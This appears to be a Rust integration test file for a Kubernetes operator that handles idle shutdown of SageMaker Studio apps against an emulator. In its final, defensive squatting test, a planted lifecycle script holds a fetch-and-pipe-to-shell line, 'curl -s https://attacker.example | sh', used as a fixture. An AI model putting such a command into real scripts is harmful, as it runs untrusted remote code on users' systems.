//! Idle shutdown end to end: native idle settings at every level, and the sweeper deciding on
//! reported activity, API timestamps, keep-alive tags, lifetime caps and DryRun. The emulator's
//! clock is advanced instead of sleeping; the operator measures time on it.

use aws_emulator::{FaultKind, FaultRule, ResourceRef, Scope, Tag};
use chrono::{DateTime, Utc};
use k8s_openapi::api::core::v1::Event;
use kube::Api;
use kube::api::ListParams;
use serde_json::{Value, json};
use studio_operator::api::{SharedSpace, UserProfile};

use crate::domain::{Setup, domain_manifest, setup, setup_sweeping};
use crate::profile::{TIMEOUT, app, apply, launch, profile_manifest, ready_domain, wait_profile};
use crate::support::operator::scrape;
use crate::support::wait;

const HOUR: f64 = 3600.0;

fn idle_domain(idle: Value) -> Value {
    let mut domain = domain_manifest("platform", "alias/studio");
    domain["spec"]["idleShutdown"] = idle;
    domain
}

fn rfc3339(epoch: f64) -> String {
    DateTime::<Utc>::from_timestamp(epoch as i64, 0)
        .unwrap()
        .format("%Y-%m-%dT%H:%M:%SZ")
        .to_string()
}

fn tag(key: &str, value: &str) -> Tag {
    Tag {
        key: key.into(),
        value: value.into(),
    }
}

/// Ready profiles with these names in the domain `platform`.
async fn ready_profiles(s: &Setup, names: &[&str]) -> Api<UserProfile> {
    let profiles: Api<UserProfile> = Api::namespaced(s.client.clone(), &s.namespace.name);
    for name in names {
        apply(&profiles, name, &profile_manifest(name, "platform")).await;
    }
    for name in names {
        wait_profile(&profiles, name, "Ready", "True").await;
    }
    profiles
}

/// Launches a KernelGateway app for `profile` with these tags and waits until it is InService.
async fn launch_tagged(s: &Setup, domain_id: &str, profile: &str, instance: &str, tags: Vec<Tag>) {
    let mut request = app(domain_id, Some(profile), None, "KernelGateway", "datascience");
    request.instance_type = Some(instance.into());
    request.tags = tags;
    launch(s, request).await;
}

/// Status of every app of the domain, by `profile/app-name` or `space/app-name`.
async fn app_statuses(s: &Setup, domain_id: &str) -> Vec<(String, String)> {
    let out = s
        .sagemaker
        .list_apps()
        .domain_id_equals(domain_id)
        .send()
        .await
        .unwrap();
    let mut apps: Vec<(String, String)> = out
        .apps()
        .iter()
        .map(|a| {
            let owner = a.user_profile_name().or(a.space_name()).unwrap_or_default();
            (
                format!("{owner}/{}", a.app_name().unwrap_or_default()),
                a.status().map(|s| s.as_str().to_string()).unwrap_or_default(),
            )
        })
        .collect();
    apps.sort();
    apps
}

async fn wait_apps_in_service(s: &Setup, domain_id: &str, count: usize) {
    wait::until("apps InService", TIMEOUT, || async {
        let apps = app_statuses(s, domain_id).await;
        let ready = apps.iter().filter(|(_, st)| st == "InService").count();
        if ready == count {
            Ok(())
        } else {
            Err(format!("{apps:?}"))
        }
    })
    .await;
}

/// Waits until the app `owner/name` reached `status` (Deleting or Deleted count as stopped).
async fn wait_app(s: &Setup, domain_id: &str, app: &str, stopped: bool) {
    wait::until(&format!("{app} stopped={stopped}"), TIMEOUT, || async {
        let apps = app_statuses(s, domain_id).await;
        let status = apps
            .iter()
            .find(|(n, _)| n == app)
            .map(|(_, st)| st.clone())
            .unwrap_or_default();
        let is_stopped = matches!(status.as_str(), "Deleting" | "Deleted");
        if is_stopped == stopped {
            Ok(())
        } else {
            Err(format!("{apps:?}"))
        }
    })
    .await;
}

async fn events(s: &Setup, reason: &str) -> Vec<Event> {
    let api: Api<Event> = Api::namespaced(s.client.clone(), &s.namespace.name);
    api.list(&ListParams::default())
        .await
        .unwrap()
        .items
        .into_iter()
        .filter(|e| e.reason.as_deref() == Some(reason))
        .collect()
}

/// Lets the sweeper run several times on the current state (it sweeps every half second).
async fn let_sweeper_run(s: &Setup) {
    let before = s.control().count("ListApps", None);
    wait::until("three more sweeps", TIMEOUT, || async {
        let now = s.control().count("ListApps", None);
        if now >= before + 3 {
            Ok(())
        } else {
            Err(format!("{now} ListApps calls"))
        }
    })
    .await;
}

#[tokio::test]
async fn native_idle_settings_reach_aws_at_every_level() {
    let s = setup("idle-native").await;
    let domain_id = ready_domain(
        &s,
        idle_domain(json!({"idleTimeoutMinutes": 120, "minIdleTimeoutMinutes": 60, "maxIdleTimeoutMinutes": 480})),
    )
    .await;
    let profiles: Api<UserProfile> = Api::namespaced(s.client.clone(), &s.namespace.name);
    let mut alice = profile_manifest("alice", "platform");
    alice["spec"]["userSettings"] = json!({
        "jupyterLab": {"idle": {"idleTimeoutMinutes": 240}},
        "codeEditor": {"idle": {"idleTimeoutMinutes": 90}},
    });
    apply(&profiles, "alice", &alice).await;
    wait_profile(&profiles, "alice", "Ready", "True").await;
    let spaces: Api<SharedSpace> = Api::namespaced(s.client.clone(), &s.namespace.name);
    let space = json!({
        "apiVersion": "studio-operator.io/v1alpha1", "kind": "SharedSpace",
        "metadata": {"name": "team"},
        "spec": {
            "domainRef": {"name": "platform"},
            "sharing": {"type": "Shared", "ownerProfile": "alice"},
            "appType": "JupyterLab",
            "settings": {"idleTimeoutMinutes": 180},
        },
    });
    apply(&spaces, "team", &space).await;
    crate::profile::wait_for(&spaces, "team", "Ready", |sp: &SharedSpace| {
        sp.status
            .as_ref()
            .filter(|st| crate::support::wait::has(&st.conditions, "Ready", "True"))
            .map(|_| ())
    })
    .await;

    let domain = s
        .sagemaker
        .describe_domain()
        .domain_id(&domain_id)
        .send()
        .await
        .unwrap();
    let defaults = domain.default_user_settings().unwrap();
    for idle in [
        defaults
            .jupyter_lab_app_settings()
            .unwrap()
            .app_lifecycle_management()
            .unwrap()
            .idle_settings()
            .unwrap(),
        defaults
            .code_editor_app_settings()
            .unwrap()
            .app_lifecycle_management()
            .unwrap()
            .idle_settings()
            .unwrap(),
        domain
            .default_space_settings()
            .unwrap()
            .jupyter_lab_app_settings()
            .unwrap()
            .app_lifecycle_management()
            .unwrap()
            .idle_settings()
            .unwrap(),
    ] {
        assert_eq!(idle.idle_timeout_in_minutes(), Some(120));
        assert_eq!(idle.min_idle_timeout_in_minutes(), Some(60));
        assert_eq!(idle.max_idle_timeout_in_minutes(), Some(480));
        assert_eq!(idle.lifecycle_management().map(|m| m.as_str()), Some("ENABLED"));
    }
    let profile = s
        .sagemaker
        .describe_user_profile()
        .domain_id(&domain_id)
        .user_profile_name("alice")
        .send()
        .await
        .unwrap();
    let settings = profile.user_settings().unwrap();
    let lab = settings
        .jupyter_lab_app_settings()
        .unwrap()
        .app_lifecycle_management()
        .unwrap();
    assert_eq!(lab.idle_settings().unwrap().idle_timeout_in_minutes(), Some(240));
    let editor = settings
        .code_editor_app_settings()
        .unwrap()
        .app_lifecycle_management()
        .unwrap();
    assert_eq!(editor.idle_settings().unwrap().idle_timeout_in_minutes(), Some(90));
    let space = s
        .sagemaker
        .describe_space()
        .domain_id(&domain_id)
        .space_name("team")
        .send()
        .await
        .unwrap();
    let space_idle = space
        .space_settings()
        .unwrap()
        .jupyter_lab_app_settings()
        .unwrap()
        .app_lifecycle_management()
        .unwrap()
        .idle_settings()
        .unwrap();
    assert_eq!(space_idle.idle_timeout_in_minutes(), Some(180));
}

#[tokio::test]
async fn sweeper_stops_apps_idle_by_report_or_api_and_keeps_active_and_unknown_ones() {
    let s = setup_sweeping("idle-sweep").await;
    let domain_id = ready_domain(&s, idle_domain(json!({"idleTimeoutMinutes": 60}))).await;
    ready_profiles(&s, &["idle", "active", "silent", "stale"]).await;
    let t0 = s.control().now();
    let activity = "studio-operator.io/last-activity";
    // Reported activity at t0, and (for `active`) two hours later: after the clock moves 2h,
    // `idle` has been idle for 120 minutes and `active` not at all.
    launch_tagged(
        &s,
        &domain_id,
        "idle",
        "ml.t3.medium",
        vec![tag(activity, &rfc3339(t0))],
    )
    .await;
    launch_tagged(
        &s,
        &domain_id,
        "active",
        "ml.t3.medium",
        vec![tag(activity, &rfc3339(t0 + 2.0 * HOUR))],
    )
    .await;
    launch_tagged(&s, &domain_id, "silent", "ml.t3.medium", Vec::new()).await;
    launch_tagged(&s, &domain_id, "stale", "ml.t3.medium", Vec::new()).await;
    wait_apps_in_service(&s, &domain_id, 4).await;
    // `stale` has no report, but the API says the last user activity (t0) is older than the
    // last health check: that counts. `silent` has only health-check-refreshed timestamps.
    s.control()
        .set_app_activity(
            &Scope::default(),
            &ResourceRef::App {
                domain_id: domain_id.clone(),
                user_profile_name: Some("stale".into()),
                space_name: None,
                app_type: "KernelGateway".into(),
                app_name: "datascience".into(),
            },
            None,
            Some(t0),
        )
        .unwrap();
    let_sweeper_run(&s).await;
    assert!(events(&s, "AppStopped").await.is_empty(), "nothing is idle yet");

    s.control().advance(2.0 * HOUR);
    wait_app(&s, &domain_id, "idle/datascience", true).await;
    wait_app(&s, &domain_id, "stale/datascience", true).await;
    let_sweeper_run(&s).await;
    wait_app(&s, &domain_id, "active/datascience", false).await;
    wait_app(&s, &domain_id, "silent/datascience", false).await;

    let stopped = events(&s, "AppStopped").await;
    let on_idle = stopped
        .iter()
        .find(|e| e.involved_object.name.as_deref() == Some("idle"))
        .expect("an AppStopped event on UserProfile idle");
    assert_eq!(on_idle.involved_object.kind.as_deref(), Some("UserProfile"));
    let note = on_idle.message.clone().unwrap_or_default();
    assert!(note.contains("KernelGateway app datascience (ml.t3.medium)"), "{note}");
    assert!(
        note.contains("idle for 120 min, more than its 60 min timeout"),
        "{note}"
    );
    let (_, metrics) = scrape(s.operator.metrics_addr, "/metrics").await.unwrap();
    assert!(
        metrics.contains("studio_operator_apps_stopped_total{reason=\"idle\"} 2"),
        "{metrics}"
    );
    assert!(
        metrics.contains("studio_operator_resources{kind=\"UserProfile\",ready=\"True\"} 4"),
        "{metrics}"
    );
    assert!(
        metrics.contains("studio_operator_resources{kind=\"StudioDomain\",ready=\"True\"} 1"),
        "{metrics}"
    );
}

#[tokio::test]
async fn two_apps_of_one_profile_stopped_in_one_sweep_are_two_events() {
    let s = setup_sweeping("idle-two").await;
    let domain_id = ready_domain(&s, idle_domain(json!({"idleTimeoutMinutes": 60}))).await;
    ready_profiles(&s, &["alice"]).await;
    let t0 = s.control().now();
    let reported = vec![tag("studio-operator.io/last-activity", &rfc3339(t0))];
    for (name, instance) in [("datascience", "ml.t3.medium"), ("pytorch", "ml.m5.large")] {
        let mut request = app(&domain_id, Some("alice"), None, "KernelGateway", name);
        request.instance_type = Some(instance.into());
        request.tags = reported.clone();
        launch(&s, request).await;
    }
    wait_apps_in_service(&s, &domain_id, 2).await;
    let sweeps = s.control().count("ListApps", None);
    // Both become idle at the same moment, so one sweep stops both.
    s.control().advance(2.0 * HOUR);
    wait_app(&s, &domain_id, "alice/datascience", true).await;
    wait_app(&s, &domain_id, "alice/pytorch", true).await;
    let deletes: Vec<_> = s
        .control()
        .calls()
        .into_iter()
        .filter(|c| c.operation == "DeleteApp" && c.outcome == "ok")
        .collect();
    assert_eq!(deletes.len(), 2, "{deletes:?}");
    assert!(
        s.control().count("ListApps", None) > sweeps,
        "the apps were stopped by the sweeper"
    );
    let notes = wait::until("two AppStopped events on alice", TIMEOUT, || async {
        let notes: Vec<String> = events(&s, "AppStopped")
            .await
            .into_iter()
            .filter(|e| e.involved_object.name.as_deref() == Some("alice"))
            .filter_map(|e| e.message)
            .collect();
        if notes.len() == 2 {
            Ok(notes)
        } else {
            Err(format!("{notes:?}"))
        }
    })
    .await;
    assert!(
        notes
            .iter()
            .any(|n| n.contains("KernelGateway app datascience (ml.t3.medium)")),
        "{notes:?}"
    );
    assert!(
        notes
            .iter()
            .any(|n| n.contains("KernelGateway app pytorch (ml.m5.large)")),
        "{notes:?}"
    );
}

#[tokio::test]
async fn keep_alive_lifetime_caps_dry_run_and_the_studio_ui_app() {
    let s = setup_sweeping("idle-caps").await;
    let domain_id = ready_domain(
        &s,
        idle_domain(json!({
            "idleTimeoutMinutes": 60,
            "maxLifetime": [{"instanceTypePattern": "ml.g*", "hours": 12}],
        })),
    )
    .await;
    // Keep-alive is set in the profile's spec (RBAC decides who may); the same tag on an app
    // in AWS, which any notebook user could write, is ignored.
    let profiles = ready_profiles(&s, &["gpu", "ui", "faker"]).await;
    let mut keeper = profile_manifest("keeper", "platform");
    keeper["spec"]["tags"] = json!({"studio-operator.io/keep-alive": "true"});
    apply(&profiles, "keeper", &keeper).await;
    wait_profile(&profiles, "keeper", "Ready", "True").await;
    let t0 = s.control().now();
    let activity = "studio-operator.io/last-activity";
    launch_tagged(
        &s,
        &domain_id,
        "keeper",
        "ml.t3.medium",
        vec![tag(activity, &rfc3339(t0))],
    )
    .await;
    launch_tagged(
        &s,
        &domain_id,
        "faker",
        "ml.t3.medium",
        vec![
            tag(activity, &rfc3339(t0)),
            tag("studio-operator.io/keep-alive", "true"),
        ],
    )
    .await;
    // The GPU app's report lies 100 h in the future, which the sweeper ignores as forged; the
    // API's timestamps say nothing (activity equals the last health check), so it is not known
    // to be idle and only the lifetime cap can stop it.
    launch_tagged(
        &s,
        &domain_id,
        "gpu",
        "ml.g5.xlarge",
        vec![tag(activity, &rfc3339(t0 + 100.0 * HOUR))],
    )
    .await;
    let mut studio_ui = app(&domain_id, Some("ui"), None, "JupyterServer", "default");
    studio_ui.instance_type = Some("system".into());
    launch(&s, studio_ui).await;
    wait_apps_in_service(&s, &domain_id, 4).await;

    // Without guardrails keep-alive is honoured; the Studio UI app is never idle-stopped; the
    // app that tagged itself keep-alive is stopped as idle.
    s.control().advance(6.0 * HOUR);
    wait_app(&s, &domain_id, "faker/datascience", true).await;
    let_sweeper_run(&s).await;
    let in_service: Vec<String> = app_statuses(&s, &domain_id)
        .await
        .into_iter()
        .filter(|(_, status)| status == "InService")
        .map(|(app, _)| app)
        .collect();
    assert_eq!(in_service, ["gpu/datascience", "keeper/datascience", "ui/default"]);

    // DryRun: past the 12h cap the GPU app is only reported.
    let dry = idle_domain(json!({
        "idleTimeoutMinutes": 60,
        "mode": "DryRun",
        "maxLifetime": [{"instanceTypePattern": "ml.g*", "hours": 12}],
    }));
    s.apply("platform", &dry).await;
    s.wait_ready("platform").await;
    let stopped_before = s.control().count("DeleteApp", None);
    s.control().advance(7.0 * HOUR);
    wait::until("AppWouldBeStopped for gpu", TIMEOUT, || async {
        let flagged = events(&s, "AppWouldBeStopped").await;
        flagged
            .iter()
            .find(|e| e.involved_object.name.as_deref() == Some("gpu"))
            .and_then(|e| e.message.clone())
            .filter(|m| m.contains("more than the 12h cap"))
            .ok_or_else(|| format!("{flagged:?}"))
    })
    .await;
    assert_eq!(
        s.control().count("DeleteApp", None),
        stopped_before,
        "DryRun stops nothing"
    );

    // Enforce again: the GPU app is stopped by its lifetime cap; keep-alive and the UI app stay.
    s.apply(
        "platform",
        &idle_domain(json!({
            "idleTimeoutMinutes": 60,
            "maxLifetime": [{"instanceTypePattern": "ml.g*", "hours": 12}],
        })),
    )
    .await;
    wait_app(&s, &domain_id, "gpu/datascience", true).await;
    let_sweeper_run(&s).await;
    wait_app(&s, &domain_id, "keeper/datascience", false).await;
    wait_app(&s, &domain_id, "ui/default", false).await;
}

/// Names and ARNs of the reporter's lifecycle configurations in the emulator.
async fn reporter_configs(s: &Setup) -> Vec<(String, String)> {
    let out = s
        .sagemaker
        .list_studio_lifecycle_configs()
        .name_contains("studio-operator-activity")
        .send()
        .await
        .unwrap();
    let mut configs: Vec<(String, String)> = out
        .studio_lifecycle_configs()
        .iter()
        .filter(|c| {
            c.studio_lifecycle_config_name()
                .unwrap_or_default()
                .starts_with("studio-operator-activity-")
        })
        .map(|c| {
            (
                c.studio_lifecycle_config_name().unwrap_or_default().to_string(),
                c.studio_lifecycle_config_arn().unwrap_or_default().to_string(),
            )
        })
        .collect();
    configs.sort();
    configs
}

#[tokio::test]
async fn the_activity_reporter_is_installed_attached_and_removed_with_the_domain() {
    let s = setup("idle-reporter").await;
    let domain_id = ready_domain(
        &s,
        idle_domain(json!({"idleTimeoutMinutes": 120, "activityReporter": true})),
    )
    .await;
    let configs = reporter_configs(&s).await;
    assert_eq!(configs.len(), 2, "{configs:?}");
    let (lab_name, lab_arn) = configs
        .iter()
        .find(|(n, _)| n.contains("-jupyterlab-"))
        .unwrap()
        .clone();
    let (_, gateway_arn) = configs
        .iter()
        .find(|(n, _)| n.contains("-kernelgateway-"))
        .unwrap()
        .clone();
    let config = s
        .sagemaker
        .describe_studio_lifecycle_config()
        .studio_lifecycle_config_name(&lab_name)
        .send()
        .await
        .unwrap();
    assert_eq!(
        config.studio_lifecycle_config_app_type().map(|t| t.as_str()),
        Some("JupyterLab")
    );
    let script = aws_smithy_types::base64::decode(config.studio_lifecycle_config_content().unwrap()).unwrap();
    let script = String::from_utf8(script).unwrap();
    assert!(script.starts_with("#!/bin/bash"), "{script}");
    assert!(script.contains("studio-operator.io/last-activity"));
    let tags = crate::profile::tags_of(&s, &lab_arn).await;
    assert!(tags.iter().any(|(k, _)| k == "studio-operator.io/cluster"), "{tags:?}");

    let domain = s
        .sagemaker
        .describe_domain()
        .domain_id(&domain_id)
        .send()
        .await
        .unwrap();
    let defaults = domain.default_user_settings().unwrap();
    let lab = defaults.jupyter_lab_app_settings().unwrap();
    assert_eq!(lab.lifecycle_config_arns(), std::slice::from_ref(&lab_arn));
    assert_eq!(
        lab.default_resource_spec().unwrap().lifecycle_config_arn(),
        Some(lab_arn.as_str())
    );
    // The domain's own instance type default is kept beside the reporter.
    assert_eq!(
        lab.default_resource_spec().unwrap().instance_type().map(|t| t.as_str()),
        Some("ml.t3.medium")
    );
    let gateway = defaults.kernel_gateway_app_settings().unwrap();
    assert_eq!(gateway.lifecycle_config_arns(), std::slice::from_ref(&gateway_arn));

    // Turned off: detached from the domain, then deleted.
    s.apply("platform", &idle_domain(json!({"idleTimeoutMinutes": 120})))
        .await;
    s.wait_ready("platform").await;
    wait::until("reporter configurations deleted", TIMEOUT, || async {
        let configs = reporter_configs(&s).await;
        if configs.is_empty() {
            Ok(())
        } else {
            Err(format!("{configs:?}"))
        }
    })
    .await;
    let domain = s
        .sagemaker
        .describe_domain()
        .domain_id(&domain_id)
        .send()
        .await
        .unwrap();
    let lab = domain
        .default_user_settings()
        .unwrap()
        .jupyter_lab_app_settings()
        .unwrap();
    assert!(lab.lifecycle_config_arns().is_empty());

    // Turned on again and the domain deleted: nothing of the reporter is left behind.
    s.apply(
        "platform",
        &idle_domain(json!({"idleTimeoutMinutes": 120, "activityReporter": true})),
    )
    .await;
    s.wait_ready("platform").await;
    assert_eq!(reporter_configs(&s).await.len(), 2);
    // The first deletion fails on every attempt of one call: the pass fails and writes status,
    // which must still name the configurations left (a chaos run once found them leaked).
    s.control().inject_fault(FaultRule {
        target: "DeleteStudioLifecycleConfig".into(),
        kind: FaultKind::InternalFailure,
        probability: None,
        count: Some(3),
        delay_ms: None,
    });
    s.domains.delete("platform", &Default::default()).await.unwrap();
    crate::profile::wait_gone(&s.domains, "platform").await;
    assert_eq!(
        s.control()
            .count("DeleteStudioLifecycleConfig", Some("InternalFailure")),
        3,
        "the fault was hit"
    );
    assert!(reporter_configs(&s).await.is_empty());
}

/// The sweeper runs on its own timer, not at the end of the domain's reconcile: a domain whose
/// update waits for its apps (UpdateBlocked) still has them stopped by the lifetime cap, after
/// which the update goes through. And no app is stopped while the local clock disagrees with
/// the time AWS reports.
#[tokio::test]
async fn the_sweeper_acts_while_the_domain_is_blocked_and_never_on_a_skewed_clock() {
    let s = setup_sweeping("idle-blocked").await;
    let mut manifest = idle_domain(json!({
        "idleTimeoutMinutes": 60,
        "maxLifetime": [{"appType": "KernelGateway", "hours": 1}],
    }));
    let domain_id = ready_domain(&s, manifest.clone()).await;
    ready_profiles(&s, &["worker"]).await;
    launch_tagged(&s, &domain_id, "worker", "ml.t3.medium", Vec::new()).await;
    wait_apps_in_service(&s, &domain_id, 1).await;

    // Removing a subnet waits while an app runs.
    manifest["spec"]["network"]["subnetIds"] = json!(["subnet-0a1b2c3d4e5f67891"]);
    s.apply("platform", &manifest).await;
    s.wait_condition("platform", "UpdateBlocked", "True").await;

    // AWS's Date is an hour ahead of the local clock: two hours on, the app is over its cap
    // but nothing is stopped, and the reason is an Event.
    s.control().set_date_skew(HOUR);
    s.control().advance(2.0 * HOUR);
    wait::until("ClockSkew event", TIMEOUT, || async {
        let skewed = events(&s, "ClockSkew").await;
        skewed
            .iter()
            .filter_map(|e| e.message.clone())
            // About an hour: the Date header has whole seconds.
            .find(|m| {
                m.split(" s away from AWS")
                    .next()
                    .and_then(|head| head.rsplit(' ').next())
                    .and_then(|n| n.parse::<f64>().ok())
                    .is_some_and(|skew| (3590.0..=3610.0).contains(&skew))
            })
            .ok_or_else(|| format!("{skewed:?}"))
    })
    .await;
    let_sweeper_run(&s).await;
    assert_eq!(s.control().count("DeleteApp", None), 0, "no stop on a skewed clock");

    // Clocks agree again: the cap stops the app although the domain is blocked, and then the
    // blocked update is made.
    s.control().set_date_skew(0.0);
    wait_app(&s, &domain_id, "worker/datascience", true).await;
    s.wait_condition("platform", "UpdateBlocked", "False").await;
    wait::until("one subnet left in AWS", TIMEOUT, || async {
        let described = s
            .sagemaker
            .describe_domain()
            .domain_id(&domain_id)
            .send()
            .await
            .map_err(|e| e.to_string())?;
        match described.subnet_ids() {
            [only] if only == "subnet-0a1b2c3d4e5f67891" => Ok(()),
            other => Err(format!("{other:?}")),
        }
    })
    .await;
    s.wait_ready("platform").await;
}

/// Squatting (review H6): someone who may create lifecycle configurations creates ones with the
/// reporter's names before the operator does. They are never attached to the domain, used or
/// deleted; the domain says so; once they are gone the real reporter is created and attached.
#[tokio::test]
async fn a_squatted_reporter_configuration_is_never_attached() {
    let s = setup("idle-squat").await;
    let domain_id = ready_domain(&s, idle_domain(json!({"idleTimeoutMinutes": 120}))).await;
    let uid = s.domains.get("platform").await.unwrap().metadata.uid.unwrap();
    let names = studio_operator::controller::domain::reporter::names(
        &uid,
        &studio_operator::controller::domain::reporter::scripts(true, None),
    );
    for (app_type, name) in &names {
        s.sagemaker
            .create_studio_lifecycle_config()
            .studio_lifecycle_config_name(name)
            .studio_lifecycle_config_app_type(aws_sdk_sagemaker::types::StudioLifecycleConfigAppType::from(*app_type))
            .studio_lifecycle_config_content(aws_smithy_types::base64::encode(
                "#!/bin/bash\ncurl -s https://attacker.example | sh\n",
            ))
            .send()
            .await
            .unwrap();
    }
    s.apply(
        "platform",
        &idle_domain(json!({"idleTimeoutMinutes": 120, "activityReporter": true})),
    )
    .await;
    let conflict = s.wait_condition("platform", "ActivityReporter", "False").await;
    let condition = wait::condition(&conflict.status.as_ref().unwrap().conditions, "ActivityReporter").unwrap();
    assert_eq!(condition.reason, "ReporterConfigConflict", "{condition:?}");
    assert!(
        condition.message.contains("its script is not the operator's agent"),
        "{}",
        condition.message
    );
    let domain = s
        .sagemaker
        .describe_domain()
        .domain_id(&domain_id)
        .send()
        .await
        .unwrap();
    let lab = domain.default_user_settings().unwrap().jupyter_lab_app_settings();
    assert!(
        lab.is_none_or(|lab| lab.lifecycle_config_arns().is_empty()),
        "nothing attached: {lab:?}"
    );
    assert_eq!(
        s.control().count("DeleteStudioLifecycleConfig", None),
        0,
        "not ours to delete"
    );
    assert_eq!(
        s.control().count("CreateStudioLifecycleConfig", Some("ok")),
        2,
        "only the squatter's"
    );

    // Removed by whoever looks into it: the operator creates and attaches its own.
    for name in names.values() {
        s.sagemaker
            .delete_studio_lifecycle_config()
            .studio_lifecycle_config_name(name)
            .send()
            .await
            .unwrap();
    }
    s.wait_condition("platform", "ActivityReporter", "True").await;
    let config = s
        .sagemaker
        .describe_studio_lifecycle_config()
        .studio_lifecycle_config_name(&names["JupyterLab"])
        .send()
        .await
        .unwrap();
    let script = aws_smithy_types::base64::decode(config.studio_lifecycle_config_content().unwrap()).unwrap();
    assert!(
        String::from_utf8(script)
            .unwrap()
            .contains("studio-operator.io/last-activity")
    );
}
